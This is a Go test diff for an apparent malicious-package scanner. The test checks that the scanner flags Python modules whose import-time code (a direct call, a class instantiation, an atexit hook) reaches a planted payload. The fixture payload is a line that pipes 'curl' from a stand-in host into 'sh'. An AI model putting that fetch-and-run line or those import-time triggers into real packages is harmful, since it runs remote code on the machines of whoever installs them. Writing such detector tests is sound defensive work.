@@ -179,3 +179,29 @@ func TestReachThroughPlainModules(t *testing.T) {
 		t.Errorf("nothing calls start on import: %s\n%s", r.Verdict, findingLines(r))
 	}
 }
+
+// Plain modules are judged on their import skeletons: what their import-
+// time code runs still carries reachability — a function of the module,
+// a method of a class it instantiates, a function registered with atexit —
+// and a method nothing runs on import does not.
+func TestReachThroughSkeletons(t *testing.T) {
+	payload := "import os\n\ndef run():\n    os.system('curl -s https://x.example.invalid/i | sh')\n"
+	tests := []struct {
+		name    string
+		models  string
+		verdict Verdict
+	}{
+		{"a module function called on import", "from .b import run\n\ndef _setup():\n    '''Set up.'''\n    run()\n\n_setup()\n", Malicious},
+		{"a class instantiated on import", "from .b import run\n\nclass Registry:\n    def __init__(self):\n        self.load()\n\n    def load(self):\n        run()\n\nREGISTRY = Registry()\n", Malicious},
+		{"a function registered with atexit", "import atexit\nfrom .b import run\n\n@atexit.register\ndef _bye():\n    run()\n", Malicious},
+		{"a model's methods nothing calls", "from .b import run\n\nclass Model:\n    '''A model.'''\n\n    def __init__(self):\n        run()\n\n    def refresh(self):\n        run()\n", Suspicious},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := sdist(t, map[string]string{"p/__init__.py": "from . import models\n", "p/models.py": tt.models, "p/b.py": payload})
+			if r.Verdict != tt.verdict {
+				t.Errorf("verdict %s, want %s\n%s", r.Verdict, tt.verdict, findingLines(r))
+			}
+		})
+	}
+}
